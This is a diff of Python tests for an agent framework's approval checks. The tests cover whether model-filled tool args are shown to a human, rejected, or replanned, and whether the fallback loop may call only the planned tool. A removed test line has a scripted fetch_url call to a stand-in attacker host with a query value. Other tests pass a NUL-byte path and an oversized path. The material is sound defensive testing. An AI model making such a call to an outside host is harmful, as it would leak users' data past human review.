@@ -363,14 +363,62 @@ async def test_a_filled_call_that_needs_approval_shows_its_real_args(
     assert payload["step_id"] == "s2" and payload["tool"] == "fetch_url"
     assert payload["args"] == {"url": "https://example.org/a"}
     assert "args taken from earlier results" in payload["why"]
-    # Resumed, the args are filled again; different ones do not match the answer and are
-    # asked about anew, so only a call the human saw can run.
-    script.add("execute", tool_call("fetch_url", {"url": "https://attacker.example/?k=1"}))
-    again = await aresume("t", db=db_path, answers={interrupt_id: {
-        "action": "reject", "step_id": "s2", "args_hash": payload["args_hash"]}})  # fmt: skip
-    ((_, second),) = again.pending.items()
-    assert second["args"] == {"url": "https://attacker.example/?k=1"}
-    assert "stale" in second.get("refused", "")
+    assert paused.budget.llm_calls == 3  # the fill call was counted before the pause
+    # The filled args are checkpointed: resuming answers this exact call, without a new fill.
+    script.add("plan", plan_reply(step("s3", tool="list_files", args={})))
+    script.add("reflect", reflect_reply({"s1": True}, replan=True, reason="s2 was rejected"))
+    script.add("reflect", reflect_reply({"s3": True}, {"c1": "s3: no page needed"}))
+    script.add("finish", "skipped the page")
+    answer = {"action": "reject", "step_id": "s2", "args_hash": payload["args_hash"],
+              "feedback": "not that site"}  # fmt: skip
+
+    outcome = await aresume("t", db=db_path, answers={interrupt_id: answer})
+
+    assert outcome.status == "done", outcome.stop_reason
+    assert outcome.results["s2"].output.startswith("REJECTED by the user")
+    assert len(script.calls_for("execute")) == 1
+
+
+async def test_a_filled_call_that_needs_approval_without_forced_calls_goes_back_to_the_planner(
+    script: Script, context: Context, workspace: Path, db_path: Path
+) -> None:
+    # Nobody could review a call the model makes freely: the step fails, the planner replans.
+    script.add("parse_goal", goal_reply("the page is read"))
+    script.add("plan", plan_reply(step("s1", tool="fetch_url", fill_args=True, risk="network",
+                                       description="fetch the page")))  # fmt: skip
+    script.add("execute", "I would fetch it.")  # the forced call is ignored
+    script.add("reflect", reflect_reply({"s1": False}, replan=True, reason="no args"))
+    script.add("plan", plan_reply(step("s2", tool="list_files", args={})))
+    script.add("reflect", reflect_reply({"s2": True}, {"c1": "s2"}))
+    script.add("finish", "done")
+
+    outcome = await arun("read the page", context=context, db=db_path)
+
+    assert outcome.status == "done" and not outcome.pending
+    assert "plan this step with explicit args, or without a tool" in outcome.results["s1"].output
+
+
+async def test_the_fallback_loop_may_call_only_the_planned_tool(
+    script: Script, context: Context, workspace: Path, db_path: Path
+) -> None:
+    (workspace / "b.txt").write_text("found it")
+    script.add("parse_goal", goal_reply("b.txt is read"))
+    script.add("plan", plan_reply(step("s1", tool="read_file", fill_args=True,
+                                       description="read b.txt", risk="network")))  # fmt: skip
+    script.add("execute", "no call")  # ignored forced call: the loop takes over
+    script.add("execute", tool_call("write_file", {"path": "x.txt", "content": "x"}))
+    script.add("execute", tool_call("read_file", {"path": "b.txt"}), "b.txt: found it")
+    script.add("reflect", reflect_reply({"s1": True}, {"c1": "s1"}))
+    script.add("finish", "found it")
+    context.approval = "none"
+
+    outcome = await arun("read b.txt", context=context, db=db_path)
+
+    assert outcome.status == "done"
+    assert not (workspace / "x.txt").exists()
+    loop_prompt = script.calls_for("execute")[2]
+    refused = [m.text for m in loop_prompt if m.type == "tool"]
+    assert refused and "call only read_file" in refused[0]
 
 
 async def test_a_resumed_filled_write_is_not_refused_for_the_file_it_wrote(
@@ -442,3 +490,29 @@ async def test_a_server_without_named_tool_choice_gets_the_executor_loop(
     forced = [r for r in server.requests if isinstance(r.get("tool_choice"), dict)]
     assert len(forced) == 1  # tried once, refused with HTTP 400, then the loop did the step
     assert outcome.budget.llm_calls == len(server.responses) == 6
+
+
+def test_an_unreadable_model_reply_is_one_clear_error() -> None:
+    from pydantic import BaseModel, ValidationError
+
+    from nodes.errors import ModelUnavailableError
+    from nodes.llm import _translate
+
+    class Call(BaseModel):
+        args: dict[str, object]
+
+    try:
+        Call.model_validate({"args": "not an object"})
+    except ValidationError as exc:
+        translated = _translate(exc, Context(base_url="http://127.0.0.1:9/v1"))
+    assert isinstance(translated, ModelUnavailableError)
+    message = str(translated)
+    assert "\n" not in message and "sent a reply planloop cannot read" in message
+
+
+def test_an_unusable_path_is_not_a_crash_in_the_approval_check() -> None:
+    from nodes.approval import changes_existing_file
+
+    context = Context(workspace="/tmp")
+    assert changes_existing_file({"path": "x" * 5000}, context, []) is False
+    assert changes_existing_file({"path": "a\x00b"}, context, []) is False
